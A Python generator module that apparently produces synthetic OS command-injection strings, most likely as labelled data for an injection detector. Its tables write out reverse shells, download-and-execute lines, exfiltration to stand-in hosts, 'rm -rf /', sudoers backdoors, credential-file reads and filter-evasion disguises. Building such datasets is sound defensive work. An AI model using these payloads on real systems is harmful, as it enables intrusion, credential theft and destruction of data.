"""Injected operating-system commands: separator x command x disguise x context; the first, plain set of makers."""

import base64
import random

from generators_common import HOSTS, mixed_case, number, ordinary, sometimes_encoded, token

UNIX_FILES = ("/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/version", "/etc/issue", "/var/log/auth.log", "flag.txt",
              "~/.ssh/id_rsa", "/etc/group", "/proc/self/environ", "../config.php", "/etc/nginx/nginx.conf", ".env")
UNIX_READERS = ("cat", "head", "tail", "more", "less", "tac", "nl", "od -c", "strings", "sort", "base64", "xxd", "rev",
                "head -n 5", "tail -n1", "cut -d: -f1", "grep root", "awk '{print}'", "sed -n 1p", "wc -l", "file", "stat")
UNIX_BARE = ("id", "whoami", "uname -a", "ls", "ls -la", "ls -al /", "pwd", "ps aux", "ps -ef", "env", "printenv", "ifconfig",
             "ip a", "netstat -an", "netstat -tulpn", "hostname", "w", "who", "last", "groups", "df -h", "mount", "history",
             "set", "uptime", "date", "crontab -l", "sudo -l", "arp -a", "lsof -i", "free -m", "dmesg", "lscpu", "jobs",
             "export", "reboot", "shutdown -h now", "sync", "finger", "ss -lnt", "uname", "ls /", "dir", "type ls", "help")
WINDOWS_FILES = ("c:\\windows\\win.ini", "%SYSTEMROOT%\\win.ini", "c:\\boot.ini", "c:\\inetpub\\wwwroot\\web.config",
                 "%USERPROFILE%\\desktop\\a.txt", "c:\\windows\\system32\\drivers\\etc\\hosts", "secret.txt", "..\\web.config")
WINDOWS_BARE = ("dir", "dir c:\\", "dir /s", "dir c:/", "ipconfig /all", "ipconfig", "whoami", "whoami /priv", "net user",
                "net localgroup administrators", "net view", "net share", "tasklist", "systeminfo", "ver", "set", "vol",
                "netstat -ano", "route print", "hostname", "quser", "schtasks /query", "sc query", "wmic os get caption",
                "wmic process list brief", "reg query HKLM\\Software", "gpresult /r", "driverquery", "fsutil fsinfo drives",
                "cmd", "cmd.exe", "calc.exe", "notepad.exe", "echo %PATH%", "echo %USERNAME%", "nltest /dclist:", "arp -a")

AMBIGUOUS = frozenset("help set date jobs w who last history mount export sync finger dir uptime groups env hostname ver vol cmd reboot".split())
"""Commands that are everyday words: behind a separator alone they are no attack to be sure of."""


def wait(rng: random.Random) -> str:
    """Commands that show themselves by the time they take."""
    n = rng.choice((1, 2, 3, 5, 7, 10, 15, 20, 30))
    return rng.choice((f"sleep {n}", f"sleep {n}s", f"ping -c {n} 127.0.0.1", f"ping -n {n} localhost", f"timeout {n}",
                       f"timeout /t {n}", f"ping -i {n} 127.0.0.1", f"/bin/sleep {n}", f"usleep {n}000000", f"start-sleep -s {n}",
                       f"ping -c{n} {rng.choice(HOSTS)}", f"sleep${{IFS}}{n}", f"read -t {n}", f"waitfor x /t {n}"))


def network(rng: random.Random) -> str:
    """Commands that call home."""
    host, port, name = rng.choice(HOSTS), rng.choice((80, 443, 4444, 1337, 8080, 9001)), token(rng)
    return rng.choice((
        f"curl http://{host}/{name}", f"curl -s http://{host}/{name}.sh|sh", f"wget http://{host}/{name}", f"wget -qO- {host}|bash",
        f"wget -O /tmp/{name} http://{host}/{name}", f"nc {host} {port} -e /bin/sh", f"nc -lvp {port}", f"ncat {host} {port}",
        f"bash -i >& /dev/tcp/{host}/{port} 0>&1", f"nslookup {name}.{host}", f"dig {name}.{host}", f"host {name}.{host}",
        f"nslookup `whoami`.{host}", f"ping $(whoami).{host}", f"curl {host}/$(id|base64)", f"curl -d @/etc/passwd {host}",
        f"telnet {host} {port}", f"ssh root@{host}", f"scp /etc/passwd u@{host}:/tmp", f"ftp {host}", f"tftp -i {host} get {name}.exe",
        f"mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {host} {port}>/tmp/f", f"socat tcp:{host}:{port} exec:sh", f"rsync {host}::x .",
        f"certutil -urlcache -split -f http://{host}/{name}.exe c:\\windows\\temp\\{name}.exe", f"mshta http://{host}/{name}.hta",
        f"bitsadmin /transfer {name} http://{host}/{name} c:\\temp\\{name}", f"regsvr32 /s /u /i:http://{host}/{name}.sct scrobj.dll",
        f"powershell -c iwr http://{host}/{name} -OutFile {name}.exe", f"powershell IEX(New-Object Net.WebClient).DownloadString('http://{host}/{name}')",
        f"rundll32.exe \\\\{host}\\share\\{name}.dll,0", f"net use z: \\\\{host}\\{name}", f"openssl s_client -connect {host}:{port}",
    ))


def interpreter(rng: random.Random) -> str:
    """A shell or a script interpreter with a line of code."""
    inner = rng.choice(UNIX_BARE)
    coded = base64.b64encode(inner.encode()).decode()
    return rng.choice((
        f"sh -c '{inner}'", f"bash -c \"{inner}\"", f"/bin/sh -c {inner}", f"python -c 'import os;os.system(\"{inner}\")'",
        f"python3 -c \"__import__('os').popen('{inner}').read()\"", f"perl -e 'system(\"{inner}\")'", f"php -r 'system(\"{inner}\");'",
        f"ruby -e 'puts `{inner}`'", f"node -e 'require(\"child_process\").exec(\"{inner}\")'", f"lua -e 'os.execute(\"{inner}\")'",
        f"echo {coded}|base64 -d|sh", f"echo {coded} | base64 --decode | bash", f"awk 'BEGIN{{system(\"{inner}\")}}'", f"xargs {inner}",
        f"find . -exec {inner} \\;", f"eval {inner}", f"exec {inner}", f"env {inner}", f"busybox {inner}", f"nohup {inner} &", f"/usr/bin/{inner}",
        f"/bin/{inner}", f"time {inner}", f"cmd /c {rng.choice(WINDOWS_BARE)}", f"cmd.exe /c \"{rng.choice(WINDOWS_BARE)}\"",
        f"powershell -enc {base64.b64encode(inner.encode('utf-16le')).decode()}", f"powershell.exe -nop -w hidden -c {inner}",
        f"powershell -Command \"Get-Content {rng.choice(WINDOWS_FILES)}\"", f"start /b {rng.choice(WINDOWS_BARE)}", f"forfiles /c \"{inner}\"",
        f"for /f %i in ('{inner}') do echo %i", f"wscript {token(rng)}.vbs", f"wmic process call create \"{inner}\"",
    ))


def change(rng: random.Random) -> str:
    """Commands that leave something behind."""
    name, path = token(rng), rng.choice(("/tmp", "/var/www/html", "/dev/shm", ".", "/root"))
    return rng.choice((
        f"touch {path}/{name}", f"echo {name} > {path}/{name}.txt", f"echo {name}", f"rm -rf {path}/*", "rm -rf /", f"rm {name}", f"mkdir {name}",
        f"chmod 777 {path}/{name}", f"chmod +x {name};./{name}", f"cp /etc/passwd {path}/", f"mv {name} {path}", f"kill -9 {number(rng)}",
        f"useradd {name}", f"passwd {name}", f"echo '{name} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", f"crontab {name}", f"killall {name}",
        f"printf {name}>{path}/{name}", f"tar cf - /etc|nc {rng.choice(HOSTS)} 80", f"ln -s / {name}", f"dd if=/dev/zero of={path}/{name}",
        f"del /q {name}.*", f"net user {name} Passw0rd /add", "net stop w3svc", f"echo ^<?php ?^> > {name}.php", "shutdown -r -t 0", f"taskkill /im {name}.exe",
        f"copy {name} c:\\inetpub", f"attrib -h {name}", f"reg add HKLM\\{name}", f"sc stop {name}", f"echo {name}>>c:\\{name}.txt", f"md {name}",
        f"expr {rng.randint(100, 999)} + {rng.randint(100, 999)}", f"echo $(({rng.randint(10, 99)}*{rng.randint(10, 99)}))", f"git clone http://{rng.choice(HOSTS)}/{name}",
        f"apt-get install {name}", f"pip install {name}", f"docker run {name}", f"systemctl stop {name}", f"service {name} restart", f"kubectl get {name}",
    ))


def command(rng: random.Random) -> str:
    """One command."""
    return rng.choices(
        (
            lambda: rng.choice(UNIX_BARE),
            lambda: f"{rng.choice(UNIX_READERS)} {rng.choice(UNIX_FILES)}",
            lambda: rng.choice(WINDOWS_BARE),
            lambda: f"{rng.choice(('type', 'more', 'gc', 'findstr x', 'copy', 'type  '))} {rng.choice(WINDOWS_FILES)}",
            lambda: wait(rng),
            lambda: network(rng),
            lambda: interpreter(rng),
            lambda: change(rng),
        ),
        weights=(22, 20, 12, 8, 14, 14, 12, 12),
    )[0]()


def disguise(rng: random.Random, text: str) -> str:
    """One of the ways shells read a command that looks like another."""
    head, _, tail = text.partition(" ")
    middle = max(1, len(head) // 2)
    gap = rng.choice(("${IFS}", "$IFS", "$IFS$9", "\t", "{IFS}", "  ", "%09", "<", "+", "${IFS%??}", "\x0b", "$IFS$()", "%20"))
    quote = rng.choice(("''", '""', "\\", "$@", "^", "``", "$*", "${x}", "$()"))
    ways = (
        text.replace(" ", gap),
        f"{head[:middle]}{quote}{head[middle:]} {tail}",
        "{" + ",".join(text.split(" ")) + "}",
        f"/b?n/{head[:-1]}? {tail}", f"/???/??t {tail}", f"/usr/bin/{text}", f"/bin/{text}",
        text.replace("/etc/passwd", rng.choice(("/e*c/p*d", "/etc/pass??", "/etc/pa''sswd", "/???/p?sswd", "/etc//passwd", "${HOME:0:1}etc${HOME:0:1}passwd"))),
        f"a={head[:middle]};b={head[middle:]};$a$b {tail}", f"$({text})", f"`{text}`", mixed_case(rng, text), f"{text} 2>&1", f"{text} > /dev/null",
        "".join(f"\\{c}" if c.isalpha() and rng.random() < 0.5 else c for c in head) + " " + tail, f"$(echo {head}) {tail}", f"'{head}' {tail}", f'"{head}" {tail}',
        f"$(printf '{head}') {tail}", f"${{PATH:0:1}}bin${{PATH:0:1}}{text}", f"rev<<<'{head[::-1]}'|sh", f"{head}<<<x {tail}", f"@{text}", f"%COMSPEC% /c {text}",
    )
    return rng.choice(ways)


def joined(rng: random.Random) -> str:
    """A value, a separator, a command, and what makes the rest of the line harmless."""
    run = command(rng)
    if rng.random() < 0.3:
        run = disguise(rng, run)
    if rng.random() < 0.15:
        run = f"{run}{rng.choice((';', '|', '&&', ' && ', ' | ', '; '))}{command(rng)}"
    before = ordinary(rng) if rng.random() < 0.6 else ""
    close = rng.choice(("", "", "", "", "", "'", '"', "')", '")', ")", "\\'", "}", "]"))
    space = rng.choice(("", "", " ", " ", "  "))
    way = rng.random()
    if way < 0.72:
        while run in AMBIGUOUS:
            run = command(rng)
        separator = rng.choice((";", ";", ";", "|", "|", "|", "||", "&", "&&", "\n", "\r\n", "&&&", ";;", "|&", "\n\n", "%0a", "%0d%0a", "|;", ";|"))
        body = f"{before}{close}{rng.choice(('', ' '))}{separator}{space}{run}"
    elif way < 0.82:
        body = f"{before}{close}`{run}`"
    elif way < 0.93:
        body = f"{before}{close}$({run})"
    else:
        body = f"{before}{close}{rng.choice(('<(', '>(', '|$(', ';(', '&(', ';{ ', '||(', '@('))}{run})"
    return body + rng.choice(("", "", "", "", "", ";", "|", "&", "#", " #", "'", '"', ";'", "||", "&&", "%00", "\n", " &", "|| '", ";echo ", "`"))


def special(rng: random.Random) -> str:
    """Shapes of their own: the command between separators, handed to another program, or in an expansion."""
    run = command(rng)
    return rng.choice((
        f"|{run}", f"|{run}|", f";{run};", f"&{run}&", f"&&{run}&&", f"||{run}||", f"`{run}`", f"$({run})", f"\n{run}\n", f"'{run}'|sh", f"{run}|", f"{run};", f"x'||{run}||'", f"${{{run}}}",
    ))


def alone(rng: random.Random) -> str:
    """A command as the whole value, by its full path or with what gives it away."""
    words = (*UNIX_BARE, *(f"{reader} {name}" for reader, name in zip(rng.choices(UNIX_READERS, k=4), rng.choices(UNIX_FILES, k=4))))
    quote = rng.choice(("", "", "", "", "'", '"', "`"))
    return rng.choice((lambda: f"{quote}{rng.choice(('/bin/', '/usr/bin/', '/sbin/', '/usr/sbin/', '/usr/local/bin/'))}{rng.choice(words)}{quote}", lambda: wait(rng), lambda: f"{rng.choice(UNIX_READERS)} {rng.choice(UNIX_FILES)}", lambda: interpreter(rng), lambda: f"{quote}{rng.choice(('type', 'more'))} {rng.choice(WINDOWS_FILES)}{quote}"))()


def short(rng: random.Random) -> str:
    """The shortest of all: a value, a separator, one word that only a shell knows."""
    word = rng.choice(("id", "id", "ls", "whoami", "uname", "pwd", "ifconfig", "ipconfig", "netstat", "ps", "cat /etc/passwd", "ls -la", "id;", "whoami;", "uname -a", "ls;", "id|", "env"))
    return f"{rng.choice(('', number(rng), rng.choice(HOSTS), '127.0.0.1', f'{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}', ordinary(rng), token(rng)))}{rng.choice((';', '|', '||', '&&', '&', '; ', ' | ', ' && ', ';;', ');', ')|', chr(10), '%0a', '$(', '`'))}{word}{rng.choice(('', '', '', ';', '|', '&', chr(10), '|'))}"


def make(rng: random.Random) -> str:
    """One text of the class."""
    way = rng.choices((joined, special, short, alone), weights=(66, 21, 8, 5))[0]
    return sometimes_encoded(rng, way(rng))
